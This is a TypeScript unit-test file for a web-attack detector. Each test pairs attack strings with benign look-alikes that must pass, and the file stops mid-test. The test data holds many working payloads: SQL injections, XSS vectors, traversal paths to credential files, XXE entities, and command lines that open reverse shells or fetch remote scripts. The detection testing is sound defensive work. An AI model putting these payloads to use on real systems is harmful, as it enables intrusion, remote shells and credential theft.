/**
 * Each web check on its own, with the evasions it must see through and the look-alikes it must
 * let pass; and the payload pattern file's validation and matcher.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { FieldKind, HttpFlag } from '../../src/app/http/request.js';
import { ConfigError } from '../../src/config/config.js';
import { detectBoundName, detectCommandInjection, detectCommandLine, detectCommandParameter, detectExpressionCode, detectTemplateProbe, detectJavaGadget, detectOgnl, detectPhpCode, detectServerPage, detectTemplateCode, detectYamlGadget } from '../../src/detect/web/command-injection.js';
import { detectLog4shell } from '../../src/detect/web/log4shell.js';
import { detectTraversal } from '../../src/detect/web/path-traversal.js';
import { loadPatternFile, parsePatterns, PatternMatcher } from '../../src/detect/web/patterns.js';
import { detectCrlfInjection } from '../../src/detect/web/crlf.js';
import { scannerTool } from '../../src/detect/web/scanner.js';
import { detectSqli, sqlFingerprint } from '../../src/detect/web/sqli.js';
import { detectProxyTarget, detectSsrf } from '../../src/detect/web/ssrf.js';
import { detectScriptCall, detectXss } from '../../src/detect/web/xss.js';

function misses(check: (v: string) => unknown, values: readonly string[]): string[] {
  return values.filter((v) => check(v) === null);
}

function hits(check: (v: string) => unknown, values: readonly string[]): string[] {
  return values.filter((v) => check(v) !== null);
}

describe('SQL injection', () => {
  it("reads an xp_/sp_ name as SQL Server's procedure only where a statement runs it", () => {
    const attacks = ["1; EXEC master..xp_dirtree '\\\\198.51.100.7\\a'--", "1';exec sp_addextendedproc 'x','y'--", "x';xp_availablemedia--", '1; EXEC master.dbo.sp_who2--', "1; EXEC xp_cmdshell 'dir'"];
    assert.deepEqual(misses((v) => detectSqli(v, false), attacks), []);
    assert.deepEqual(['EXEC master..xp_dirtree x', '; sp_who2', 'exec sp_x', 'sp_counted_base', 'a/sp_x.h'].map((v) => sqlFingerprint(v, 0)), ['Kb..Pb', ';P', 'KP', 'b', 'b+b.b']);
    // File and code names with the prefix (Boost's smart_ptr), a DBA's search for a procedure.
    const benign = ['sp_counted_base.hpp', 'libs/smart_ptr/include/boost/smart_ptr/detail/sp_counted_base_aix.hpp', 'Files:\n libs/c/sp_resize.cpp\n libs/d/x.cpp', 'see sp_helpdb docs', 'rename via sp_rename', 'xp_points_total'];
    assert.deepEqual(benign.map((v) => detectSqli(v, false)), benign.map(() => null));
  });

  it('folds values to token fingerprints', () => {
    assert.equal(sqlFingerprint("x' OR 1=1 --", 0), 'b' + 's');
    assert.equal(sqlFingerprint("' OR 1=1 --", 1), '&nonc');
    assert.equal(sqlFingerprint('1 UNION ALL SELECT NULL,@@version#', 0), 'nUEn,vc');
    assert.equal(sqlFingerprint('1/**/UNION/*!50000SELECT*/password', 0), 'nUEb');
    assert.equal(sqlFingerprint('please select your union', 0), 'bEbU');
    assert.equal(sqlFingerprint('sleep(5) and sleep it off', 0), 'T(n)&bbb');
    // An address or a version is one number.
    assert.equal(sqlFingerprint('10.94.0.10) AND 1=1#', 0), 'n)&nonc');
    assert.equal(sqlFingerprint('1.2.3 and 1.5', 0), 'n&n');
  });

  it("reads a header's value with a payload appended to what the client sent, where its own `#` would hide it", () => {
    const ua = 'sqlmap/1.7.2#stable (https://sqlmap.org)';
    const appended = [
      `${ua}) AND 3721=8385-- TtbA`, `${ua}))) AND 3592=(SELECT (CASE WHEN (3592=1812) THEN 3592 ELSE (SELECT 1812 UNION SELECT 3759) END))-- nL`,
      `${ua} RLIKE (SELECT (CASE WHEN (2495=5709) THEN 0x73716c ELSE 0x28 END))`, `${ua} AND MAKE_SET(9889=3223,3223)`,
      `${ua}));SELECT (CASE WHEN (4055=5577) THEN 4055 ELSE 1/(SELECT 0) END)--`, `${ua},(SELECT (CASE WHEN (1852=1852) THEN SLEEP(1) ELSE 1852 END))`,
      `${ua}) WAITFOR DELAY '0:0:1'-- ITdJ`, 'Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0 AND 1=1',
    ];
    assert.deepEqual(misses((v) => detectSqli(v, true), appended), []);
    // Read as any other value, the `#` comments the payload out.
    assert.equal(detectSqli(appended[0]), null);
    // 64 KB of blanks, parentheses and keywords: each start point found once, read to the end.
    assert.equal(detectSqli(`${' '.repeat(65536)}x`, true), null);
    assert.equal(detectSqli(`,${' '.repeat(65536)}x`, true), null);
    assert.equal(detectSqli(`;${' '.repeat(32768)}${'('.repeat(32768)}`, true), null);
    assert.equal(detectSqli(`x,${' '.repeat(65536)}IIF(1=2,1,1/0)`, true)?.rule, 'condition in function call');
    // As `a)) and 1=1` reads: a run of parentheses is no padding that hides what follows it.
    assert.equal(detectSqli(`a${')'.repeat(65535)} and 1=1`, true)?.rule, 'tautology');
    assert.equal(detectSqli('x and '.repeat(10000), true), null);
    assert.equal(detectSqli(`x${' '.repeat(65536)}and 1=1`, true)?.rule, 'tautology');
    assert.deepEqual(
      hits((v) => detectSqli(v, true), [
        'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36', 'MyApp/2.1 (iOS 17.4; iPhone15,2) and more',
        'Foo/1.0 (compatible) or Bar/2.0', 'ACME Corp (Sales) and Marketing', 'https://shop.example/search?q=rock+(live)+or+studio+%3D+both',
        'https://shop.example/blog/where-to-eat;jsessionid=ABC123', 'https://docs.example/sql/select-statement; see also',
      ]),
      [],
    );
  });

  it("ends the query at a line comment followed by a lone word, as wapiti's time probes do", () => {
    assert.equal(detectSqli('sleep(7)#\n1')?.rule, 'time delay function');
    assert.equal(detectSqli('pg_sleep(7)--\n1')?.rule, 'time delay function');
    assert.equal(detectSqli('default`,sleep(7)#1')?.rule, 'time delay function');
    assert.deepEqual(hits(detectSqli, ['use `x`, sleep(5) then retry', 'run `sleep(5)` to wait', 'the `,` then sleep(2)']), []);
    // Code after the newline still makes the comment a blank (space2dash), however far away.
    assert.equal(detectSqli(`1 AND--x\n1${' '.repeat(100)}=1`)?.rule, 'tautology');
    assert.deepEqual(hits(detectSqli, ['see below --\nthanks', '# Heading\ntext', 'x--\nabc', 'sleep(8) hours#\nnight']), []);
  });

  it("reads a value's dotted start (an address, a host name) as one operand: sqlmap appends to it", () => {
    // sqlmap --level 5 in the Host header, after an address and after a host name.
    assert.equal(detectSqli('10.94.0.10))) AND 6464=7423#')?.rule, 'tautology');
    assert.equal(detectSqli('10.94.0.10)) AS QWEE WHERE 7178=7178 AND (7238=7840)*7840-- CIFP')?.rule, 'where or having clause');
    assert.equal(detectSqli('shop.example) AND 2126=1119-- TRUF')?.rule, 'tautology');
    assert.equal(detectSqli('10.94.0.10||(SELECT HWzG WHERE 2128=2128 AND 3524=6953)||')?.rule, 'boolean with function or subquery');
    assert.deepEqual(hits((v) => detectSqli(v), ['e.g. cats and dogs', 'v1.2.3 or later', 'version 1.2.3 or 1.2.4 = same', 'shop.example:8080', 'www.example.co.uk and more']), []);
  });

  it('reads a sum at the start as one number, nested calls in a comparison, and a long repeated run does not push the payload past the token limit', () => {
    // The numeric-context check (`2-1` answers as `1`) with the payload behind it.
    assert.deepEqual(
      ['2-1 OR 1=1', '1+0 AND 1=1', '1-0 OR 1=1--', '(1)+(0) OR 1=1', 'ABS(1) OR 1=1--'].map((v) => detectSqli(v)?.rule),
      ['tautology', 'tautology', 'tautology', 'tautology', 'tautology'],
    );
    // Padding longer than the 128 tokens a fingerprint folds: a sum, a list, opening parentheses.
    const sum = `1${'+1-1'.repeat(70)}`;
    assert.equal(sqlFingerprint(`${sum} UNION SELECT password FROM users--`, 0), 'n+n+n+n+n+n+n+n+n+nUEbFbc');
    assert.equal(detectSqli(`${sum} UNION SELECT password FROM users--`)?.rule, 'union select');
    assert.equal(detectSqli(`${sum} AND 1=1--`)?.rule, 'tautology');
    assert.equal(detectSqli(`${'('.repeat(140)}1 UNION SELECT 1,2--`)?.rule, 'union select');
    // Blind extraction: calls nested two and three deep, compared.
    assert.deepEqual(
      ['1 AND ASCII(SUBSTR(user(),1,1))>64', '1 AND ORD(MID(user(),1,1))>64', '1 AND ASCII(SUBSTRING(CAST(database() AS CHAR),1,1))>64'].map((v) => detectSqli(v)?.rule),
      ['boolean with function or subquery', 'boolean with function or subquery', 'boolean with function or subquery'],
    );
    // Sums, ranges and dates before a boolean in text stay text.
    assert.deepEqual(hits((v) => detectSqli(v), ['1+1=2 and 2+2=4', '2024-01-01 or 2024-02-02', 'pages 1-10 or 20-30', '555-1234 or 555-9999', '3-4 or 5 days', '1/2 or 1/3 of the cake']), []);
  });

  it('finds injections in every context', () => {
    const attacks = [
      "' OR 1=1", "' OR 1=1 --", "admin'--", "admin' #", '1 OR 1=1', "1' AND SLEEP(5)#", '-1 UNION SELECT 1,2,3', '1 union all select null,null--',
      "'; DROP TABLE users; --", '1; DROP TABLE users', 'DROP TABLE users', "') or ('a'='a", "' or ''='", '1 AND 1=2', '1) or (1=1',
      "' UNION SELECT username, password FROM users--", '1 AND extractvalue(1,concat(0x7e,version()))', 'sleep(5)', "1' ORDER BY 3--", "x' having 1=1--",
      "'; exec master..xp_cmdshell 'dir'--", "1;waitfor delay '0:0:5'--", '" or ""="', "1'/**/or/**/1=1#", '1 /*!50000union*/ /*!50000select*/ 1,2',
      "' or 1=1 limit 1 -- -+", '1 or true--', "' || pg_sleep(5)--", '1 and (select 1 from dual)', "'-sleep(5)-'", "' OR 'x'='x",
      'DELETE FROM users WHERE 1=1', "INSERT INTO users VALUES ('a','b')", 'UPDATE users SET admin=1',
    ];
    assert.deepEqual(misses(detectSqli, attacks), []);
  });

  it('lets text with SQL words through', () => {
    const benign = [
      'please select your union', 'select the best union jobs', 'How to DROP TABLE safely', 'DROP TABLE considered harmful', "O'Brien", "it's 1 or 2",
      "Don't do that; select better tools", "rock 'n' roll", 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
      'query GetUser($id: ID!) { user(id: $id) { name posts(first: 10) { title } } }', 'red or blue is fine', 'cats or dogs like bones', 'A or B - pick one',
      'Delete from favorites', 'update profile set', 'the union select committee', "I'd order by phone", '5\'11"', 'yes or no?', 'sleep(8 hours)',
      'time.sleep(5)', 'run benchmark(s)', 'Tom & Jerry', 'issue #5 - crash', '2024-01-01', 'SELECT name FROM users', "Reviews for 'The Wire' -- great show",
      'he said "hello" or "bye"', '1 or 2', 'C:\\Program Files (x86)\\App',
    ];
    assert.deepEqual(hits(detectSqli, benign), []);
  });

  it("reads a plural possessive before 'and' or 'or' and a last word as prose; a comparison, a comment or a boolean in capitals (Nmap's ' OR sqlspider) as SQL", () => {
    // Searches and names: a value ending `s' and <word>` alerted at severity 1.
    assert.deepEqual(hits(detectSqli, ["the students' and teachers", "parents' and kids", "my friends' and family", "employees' or managers"]), []);
    assert.deepEqual(
      ["admin' and 1=1", "x' or x=x", "admin' or admin#", "' or true--", "index.php' OR sqlspider", "x') || sqlspider"].map((v) => detectSqli(v, false)?.rule ?? null),
      Array(6).fill('boolean after string break'),
    );
  });

  it('names the shape it matched', () => {
    assert.deepEqual(detectSqli("' OR 1=1 --"), { rule: 'boolean after string break', fingerprint: 's&nonc' });
    assert.deepEqual(detectSqli('-1 UNION SELECT 1,2'), { rule: 'union select', fingerprint: '+nUEn,n' });
  });
});

describe('XSS', () => {
  it('finds script in every form', () => {
    const attacks = [
      '<script>alert(1)</script>', '<ScRiPt>alert(1)', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<a href="javascript:alert(1)">x</a>',
      '<a href="&#106;avascript:alert(1)">', '<a href="java\tscript:alert(1)">', '" onmouseover="alert(1)', "' autofocus onfocus='alert(1)",
      'javascript:alert(document.cookie)', '<iframe src="//evil">', '<body onload=alert(1)>', '<div style="width:expression(alert(1))">',
      '<object data="data:text/html;base64,PHNjcmlwdD4=">',
    ];
    assert.deepEqual(misses(detectXss, attacks), []);
  });

  it('lets harmless markup and prose through', () => {
    const benign = [
      '<b>hello</b> <a href="https://example.com/x">me</a>', '<p class="intro">Hi</p>', '<img src="cat.png" alt="a cat">', 'a<b and c>d',
      'I am online="yes"', 'He said "click here" then x=1', 'See https://example.com/a?b=c', 'time: 10:30', 'use the onload event', 'text/html,*/*',
      '{{ user.name }} and {{ items.length }}', "the object's constructor: obj.constructor === Foo", '<animate attributeName="opacity" to="1" dur="1s"/>',
    ];
    assert.deepEqual(hits(detectXss, benign), []);
  });

  it("finds AngularJS sandbox escapes and SVG animations that write an event handler", () => {
    assert.equal(detectXss("{{constructor.constructor('alert(1)')()}}"), 'Function constructor in a template expression');
    assert.equal(detectXss("{{$on.constructor('alert(1)')()}}"), 'Function constructor in a template expression');
    assert.equal(detectXss('<svg><set attributeName=onload to=alert(1)>'), 'animated event handler onload');
  });

  it('reads a tag\'s attributes once, however many `<` they hold (a `<` inside a tag is an attribute name)', () => {
    // 64 KB of `<a ` with no `>` once took 21 s (each `<` re-read the rest); now one pass.
    assert.equal(detectXss('<a '.repeat(2000)), null);
    assert.equal(detectXss(`${'<a '.repeat(2000)}<img src=x onerror=alert(1)>`), 'event handler onerror');
    assert.equal(detectXss(`<a x="${'<b '.repeat(50)}"><svg onload=alert(1)>`), 'event handler onload');
    assert.equal(detectXss(`<style>${'<a '.repeat(100)}@import 'http://x/a.css';</style>`), 'script or import in style element');
    assert.equal(detectXss(`${'<p>'.repeat(500)}<script>alert(1)</script>`), '<script> element');
  });

  it('reads the tags inside a style element: in MathML or SVG it holds markup (the mglyph sanitizer bypass)', () => {
    assert.equal(detectXss('<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'), 'event handler onerror');
    assert.equal(detectXss('<svg><style><img src=1 onerror=alert(1)></style></svg>'), 'event handler onerror');
    assert.deepEqual(hits(detectXss, ['<style>body{color:red}</style><p>hi</p>', '<style>a > b { margin: 0 }</style>', '<style>'.repeat(5000)]), []);
  });

  it("finds the markup-breaking probe `<'\">` (sqlmap's heuristic XSS check)", () => {
    assert.equal(detectXss(`1'SNJmEm<'">idkAuD`), 'markup-breaking probe');
    // With the bytes sqlmap's escapequotes and apostrophenullencode tampers put before quotes.
    assert.equal(detectXss(`shoes\\'ayHHfa<\\'\\">DAKIPp`), 'markup-breaking probe');
    assert.equal(detectXss(`shoes\0'OyBkNj<\0'">baMGwn`), 'markup-breaking probe');
    assert.deepEqual(hits(detectXss, [`a < b and 'c' > "d"`, `x<'y'>"z"`, `<'`, `a<\\'b\\">`]), []);
  });

  it('reads markup with NUL bytes in it as a filter that strips them would pass it on', () => {
    assert.equal(detectXss('<scr\0ipt>alert(1)</script>'), '<script> element (NUL bytes removed)');
    assert.equal(detectXss('<img src=x o\0nerror=alert(1)>')?.endsWith('(NUL bytes removed)'), true);
    assert.deepEqual(hits(detectXss, ['a\0b < c', 'x\0<\0y', '\0\0<b>bold</b>\0']), []);
  });

  it('joins markup split by CDATA sections, and finds HTML component imports', () => {
    const split = "<![CDATA[<]]>SCRIPT<![CDATA[>]]>alert('XSS');<![CDATA[<]]>/SCRIPT<![CDATA[>]]>";
    assert.equal(detectXss(split), '<script> element (split by CDATA sections)');
    assert.equal(detectXss(`<?xml version="1.0"?><foo>${split}</foo>`), '<script> element (split by CDATA sections)');
    assert.equal(detectXss('<HTML xmlns:xss><?import namespace="xss" implementation="http://ha.ckers.org/xss.htc"><xss:xss>XSS</xss:xss></HTML>'), 'HTML component import');
    assert.deepEqual(hits(detectXss, ['<![CDATA[some text]]>', '<note><![CDATA[a < b && c > d]]></note>', '<?xml version="1.0"?><a>x</a>', '<?import is an old IE tag']), []);
  });
});

describe('path traversal', () => {
  const arg = (value: string, flags = 0) => ({ kind: FieldKind.QUERY_ARG, name: 'f', value, flags });
  it('finds climbs, encoded dot-dots and LFI targets', () => {
    assert.equal(detectTraversal(arg('../../../etc/hosts'), '/'), 'file inclusion target etc/hosts');
    // wapiti reads /etc/services, which filters that know /etc/passwd let through.
    assert.equal(detectTraversal(arg('/etc/services\u0000'), '/'), 'file inclusion target etc/services');
    assert.equal(detectTraversal(arg('../../app/config.yml'), '/'), '2 dot-dot segments');
    assert.equal(detectTraversal(arg('../secret', HttpFlag.DOUBLE_ENCODED), '/'), 'encoded dot-dot segment');
    assert.equal(detectTraversal(arg('php://filter/convert.base64-encode/resource=index'), '/'), 'file inclusion target php://filter');
    assert.equal(detectTraversal(arg('C:\\Windows\\win.ini'), '/'), 'file inclusion target windows/win.ini');
    // The registry hives' backups, and paths through Windows' environment variables.
    assert.equal(detectTraversal(arg('C:\\Windows\\repair\\SAM'), '/'), 'file inclusion target windows/repair/sam');
    assert.equal(detectTraversal(arg('C:\\WINNT\\repair\\system'), '/'), 'file inclusion target winnt/repair/system');
    assert.equal(detectTraversal(arg('%SYSTEMROOT%\\repair\\SAM'), '/'), 'file inclusion target %systemroot%/');
    assert.equal(detectTraversal(arg('%windir%/system.ini'), '/'), 'file inclusion target %windir%/');
    assert.deepEqual(['how to repair windows', '/kb/windows/repair-install', '%systemroot% explained', 'windows/repair/samples'].map((v) => detectTraversal(arg(v), '/')), [null, null, null, null]);
    assert.equal(detectTraversal({ kind: FieldKind.PATH, name: '', value: '/a/../../b', flags: HttpFlag.PATH_ABOVE_ROOT }, '/b'), 'path climbs above the web root');
    assert.equal(detectTraversal({ kind: FieldKind.PATH, name: '', value: '/cgi-bin/../etc/passwd', flags: 0 }, '/etc/passwd'), 'file inclusion target etc/passwd');
    // Slashes and /./ folded as the file system does; logs written into, process details, a pod's token.
    assert.equal(detectTraversal(arg('/etc/./passwd'), '/'), 'file inclusion target etc/passwd');
    assert.equal(detectTraversal(arg('/etc//shadow'), '/'), 'file inclusion target etc/shadow');
    assert.equal(detectTraversal(arg('/var/log/apache2/access.log'), '/'), 'file inclusion target var/log/apache2/access.log');
    assert.equal(detectTraversal(arg('/proc/1/environ'), '/'), 'file inclusion target proc/1/environ');
    assert.equal(detectTraversal(arg('/var/run/secrets/kubernetes.io/serviceaccount/token'), '/'), 'file inclusion target serviceaccount/token');
    assert.equal(detectTraversal(arg('/etc/mysql/my.cnf'), '/'), 'file inclusion target etc/mysql/my.cnf');
    // XML external entities read from a URL (out of band, with a parameter entity).
    assert.equal(detectTraversal(arg('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % remote SYSTEM "http://198.51.100.7/evil.dtd"> %remote;]><r/>'), '/'), 'XML external entity');
    assert.equal(detectTraversal(arg('<!DOCTYPE r [<!ENTITY x PUBLIC "-//x" "ftp://198.51.100.7/a">]><r>&x;</r>'), '/'), 'XML external entity');
  });

  it('lets relative links and ordinary paths through', () => {
    assert.equal(detectTraversal(arg('../checkout'), '/'), null);
    assert.equal(detectTraversal(arg('v1.2.3/notes..txt'), '/'), null);
    assert.equal(detectTraversal(arg('https://cdn.example//assets/./app.js'), '/'), null);
    assert.equal(detectTraversal(arg('/api/proc/1/tasks'), '/'), null);
    assert.equal(detectTraversal(arg('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>'), '/'), null);
    assert.equal(detectTraversal(arg('<!DOCTYPE r [<!ENTITY copy "(c) 2026">]><r>&copy;</r>'), '/'), null);
    assert.equal(detectTraversal({ kind: FieldKind.PATH, name: '', value: '/static/../img/a.png', flags: HttpFlag.DOT_SEGMENTS }, '/img/a.png'), null);
  });

  it("counts old Windows' triple dots and knows IIS's files (wfuzz's Traversal list)", () => {
    assert.equal(detectTraversal(arg('/.../.../.../.../.../'), '/'), '5 dot-dot segments');
    assert.equal(detectTraversal(arg('C:\\inetpub\\wwwroot\\global.asa'), '/'), 'file inclusion target inetpub/wwwroot/');
    assert.equal(detectTraversal(arg('../global.asa'), '/'), 'file inclusion target global.asa');
    assert.equal(detectTraversal(arg('Wait.../what...'), '/'), null);
    assert.equal(detectTraversal(arg('a/.../b'), '/'), null);
  });

  it('finds the files named without a slash or a colon, and nothing else there', () => {
    assert.equal(detectTraversal(arg('WIN.INI'), '/'), 'file inclusion target win.ini');
    assert.equal(detectTraversal(arg('boot.ini'), '/'), 'file inclusion target boot.ini');
    assert.equal(detectTraversal(arg('.htpasswd'), '/'), 'file inclusion target .htpasswd');
    assert.equal(detectTraversal(arg('..\\.bash_history'), '/'), 'file inclusion target .bash_history');
    assert.equal(detectTraversal(arg('tomcat-users.xml'), '/'), 'file inclusion target tomcat-users.xml');
    assert.equal(detectTraversal(arg('global.asa'), '/'), 'file inclusion target global.asa');
    assert.equal(detectTraversal(arg('global.asax'), '/'), null);
    // A whole value that is a path into the system's configuration, logs or process details (CRS 930120's OS files).
    const system: [string, string][] = [
      ['/etc/apache2/apache2.conf', 'system file path /etc/'], ['/var/log/auth.log', 'system file path /var/log/'], ['/proc/version', 'system file path /proc/'],
      ['../../var/log/apache2/access.log', 'file inclusion target var/log/apache2/access.log'], ['/var/log/mysql/mysql.log', 'system file path /var/log/'], ['/root/.bash_history', 'file inclusion target .bash_history'], ['/root/.ksh_history', 'system file path /root/'],
      ['/usr/local/apache2/conf/httpd.conf', 'system file path /usr/local/apache2/'], ['C:\\var\\log\\syslog', 'system file path /var/log/'], ['/etc/motd\0', 'system file path /etc/'],
      ['/boot/grub/grub.conf', 'system file path /boot/grub/'], ['web.config', 'file inclusion target web.config'], ['..\\web.config', 'file inclusion target web.config'],
    ];
    assert.deepEqual(system.map(([v]) => detectTraversal(arg(v), '/')), system.map(([, r]) => r));
    // Prose naming such a path, an app's own routes, other config files.
    const benign = ['edit /etc/nginx/nginx.conf to enable it', '/root/dashboard', '/boot/camp', '/etcetera', '/account/etc/settings', 'web.config.example', 'my web.config tips', '/var/www/html/index.html'];
    assert.deepEqual(benign.map((v) => detectTraversal(arg(v), '/')), benign.map(() => null));
    // The request's own path may have pages under /etc/.
    assert.equal(detectTraversal({ kind: FieldKind.PATH, name: '', value: '/etc/apache2/info.html', flags: 0 }, '/etc/apache2/info.html'), null);
    // Apache's .htaccess as the file asked for, not as a word in prose.
    assert.deepEqual(['.htaccess', '../.htaccess', '././.htaccess', '.HTACCESS', 'C:\\site\\.htaccess'].map((v) => detectTraversal(arg(v), '/')), Array(5).fill('file inclusion target .htaccess'));
    assert.deepEqual(['edit your .htaccess file', '.htaccess-generator', 'my.htaccess', 'docs/.htaccess.example'].map((v) => detectTraversal(arg(v), '/')), [null, null, null, null]);
    assert.equal(detectTraversal(arg('GA1.2.1234567890.1700000000'), '/'), null);
    assert.equal(detectTraversal(arg('etc.passwd'), '/'), null);
    // A colon brings the wrappers back into play.
    assert.equal(detectTraversal(arg('PHP://input'), '/'), 'file inclusion target php://input');
    assert.equal(detectTraversal(arg('index.php::$DATA'), '/'), 'file inclusion target ::$data');
  });

  it('reads the value it is given, another reading of the field', () => {
    assert.equal(detectTraversal(arg('.%./.%./.%./x'), '/', '../../../x'), '3 dot-dot segments');
    assert.equal(detectTraversal(arg('.%./.%./.%./x'), '/'), null);
  });
});

describe('command injection', () => {
  it('finds commands after separators and substitutions', () => {
    const attacks = [
      '; cat /etc/passwd', '| id', '|id', '127.0.0.1; ls -la', '127.0.0.1 && whoami', '`id`', '$(whoami)', 'x;wget http://evil/x.sh',
      '() { :; }; /bin/bash -c "id"', ';${IFS}cat${IFS}/etc/passwd', '1|sleep 5', '; /bin/cat /etc/shadow', "a;w'h'oami", '& ping -c 3 10.0.0.1', 'x\nid',
      '||nc -e /bin/sh 1.2.3.4 4444',
      // Reconnaissance: commands no prose names, and word commands with an option or a path.
      'x;getent passwd', 'x;lsb_release -a', 'x;tac /etc/passwd', 'x;nl /etc/passwd', 'x;df -h', 'x;free -m', 'x;ss -tulpn', 'x;arp -a', 'x;route -n',
      // Windows: net's subcommands are words, netsh is no word.
      '| net user hacker Password1 /ADD', '& net localgroup Administrators hacker /ADD', '; net view', '&& netsh firewall set opmode disable',
      // Windows' environment variables as arguments, which cmd.exe expands.
      '| type %SYSTEMROOT%\\repair\\SAM', '& echo %USERNAME%', '&& dir %TEMP%',
    ];
    assert.deepEqual(misses(detectCommandInjection, attacks), []);
  });

  it('lets separators before ordinary words through', () => {
    const benign = [
      'Tom & Jerry', 'dogs; cat lovers', 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36', 'R&D; date night',
      'see you; echo chamber', '$(document).ready(fn)', 'cats | dogs', 'Q&A', 'text/html; charset=utf-8', 'a=1&b=2', 'line one\ncurl is a tool',
      'price: 0; free 5 items', 'first; last', 'save 50%; more 20% off', 'R&D; type %d for digits', 'gross & net profit', 'sales; net margin up', 'see route 66; route 66 trip', 'langs: en;nl;de', 'a; ip 10.0.0.1 port 80', 'free beer; free -- no charge', 'home | free shipping | returns',
    ];
    assert.deepEqual(hits(detectCommandInjection, benign), []);
  });

  it('reads language names in lists and command names in prose as words, and interpreters with arguments as commands', () => {
    // Profiles, course pages and comments list languages and name commands after a `;` or `&`.
    const benign = [
      'skills: C; python; java', 'Languages: Java; Python & Node', 'C#; Java; PHP', 'Perl & Ruby', 'Home | Python | Blog', 'Java developer; Python developer',
      "see 'docs'; eval is evil", 'export to CSV; host a party', 'time to dig; kill the lights', 'rock & roll; ls is a command', 'Environment; env vars',
      'awk & sed tutorial', 'minutes; cc me on it', 'see docs; exec summary', 'i.e.; type e.g. text',
    ];
    assert.deepEqual(hits(detectCommandInjection, benign), []);
    const attacks = [
      "; python -c 'import os'", '| python', '|php', 'x|python3 -', "; perl -e 'system(\"id\")'", '&& node /tmp/x.js', '; java -jar /tmp/x.jar', '| python <x.py',
      ';env;', 'a;env', ';eval $(echo id)', '; exec /bin/sh', '; exec bash', ';export PATH=/tmp', ';ls', '; kill -9 1', "| awk '{print}' /etc/passwd", ';cat config.php',
      '; ping evil.example', '; dig @192.0.2.1 x', "; EXEC xp_cmdshell('dir')",
    ];
    assert.deepEqual(misses(detectCommandInjection, attacks), []);
    assert.equal(detectCommandInjection('skills: C; python -c "print(1)"'), '; then python');
    assert.equal(detectCommandInjection("x'; EXEC xp_cmdshell('cat ../../../etc/passwd')#"), '; then exec');
    // SQL Server's `;SET @x=…` (sqlmap's stacked queries) sets a variable: no `set` command.
    assert.equal(detectCommandInjection("abc';DECLARE @x CHAR(9);SET @x=0x303a303a31;WAITFOR DELAY @x--"), null);
    // A file in /etc is no command: `..;/etc/passwd` is a path (Tomcat's path parameter), not `; passwd`.
    assert.deepEqual(hits(detectCommandInjection, [';/etc/passwd', '/app/..;/..;/etc/passwd', '; ../etc/hosts']), []);
    assert.deepEqual(misses(detectCommandInjection, [';/usr/bin/passwd', ';passwd', ';cat /etc/passwd']), []);
  });

  it('reads a count after a word command as prose, and a count of seconds, a redirection or an address as arguments', () => {
    // Product texts and notes: "Buy 2; more 20% off" alerted (severity 1) while any digit after a word command counted.
    const prose = ['save 50%; more 20% off', 'Buy 2; time 10 minutes', 'type 1; type 2 diabetes', 'Tom & Jerry; cat 5 lives', 'done; echo 3 times', 'x; find 3 items', 'skills: C; Python 3; Java'];
    assert.deepEqual(hits(detectCommandInjection, prose), []);
    assert.deepEqual(
      ['1|sleep 5', '; kill 1', 'x && timeout 10 id', '; cat 1>&2', '; ping 10.0.0.1', '; host 192.0.2.7', '| nc 4444', '; python 2>/dev/null'].map((v) => detectCommandInjection(v)),
      ['| then sleep', '; then kill', '& then timeout', '; then cat', '; then ping', '; then host', '| then nc', '; then python'],
    );
  });

  it('finds command lines that are attacks with no separator before them', () => {
    const attacks: [string, string][] = [
      ['nc -lvvp 4444 -e /bin/sh', 'netcat running a shell'],
      ['busybox nc 10.0.0.1 4444 -e sh', 'netcat running a shell'],
      ['ncat 10.0.0.1 4444 --sh-exec cmd.exe', 'netcat running a shell'],
      ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'reverse shell (/dev/tcp/)'],
      ['socat tcp-connect:10.0.0.1:4444 exec:/bin/sh', 'socat running a shell'],
      ["python3 -c 'import pty;pty.spawn(\"/bin/bash\")'", 'python3 one-liner'],
      ['x = pty.spawn("/bin/sh")', 'reverse shell (pty.spawn)'],
      ["perl -e 'exec \"/bin/sh\";'", 'perl one-liner'],
      ['powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA', 'PowerShell encoded command'],
      ["powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')\"", 'PowerShell download cradle'],
      ['wget http://192.0.2.7/x.sh -O /tmp/x.sh', 'download to /tmp/'],
      ['curl -s -o /dev/shm/x http://192.0.2.7/x', 'download to /dev/shm/'],
      ['cmd /c whoami', 'cmd one-liner'],
      ['C:\\Windows\\System32\\cmd.exe /c ver', 'cmd.exe one-liner'],
      ['/bin/sh -c id', 'sh one-liner'],
    ];
    assert.deepEqual(attacks.map(([v]) => detectCommandLine(v)), attacks.map(([, r]) => r));
    // Through the whole check too (the same rule, before the separator rule).
    assert.equal(detectCommandInjection('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'), 'reverse shell (/dev/tcp/)');
    // Prose and ordinary values that name these tools.
    const benign = [
      'nc is netcat', 'install ncat with -e support?', 'the /dev/tcp feature of bash', 'python -c is handy', 'Perl -e one-liners book', 'wget -O - http://example.com',
      'curl -o page.html https://example.com', 'cmd /? help', 'sh -c', 'download the powershell -enc guide', 'a cash -c b', 'my -e /bin/sh', 'IEX index fund', 'the os module',
    ];
    assert.deepEqual(hits(detectCommandLine, benign), []);
  });

  it('finds command lines in a command parameter, and lets action names through', () => {
    const attacks: [string, string][] = [
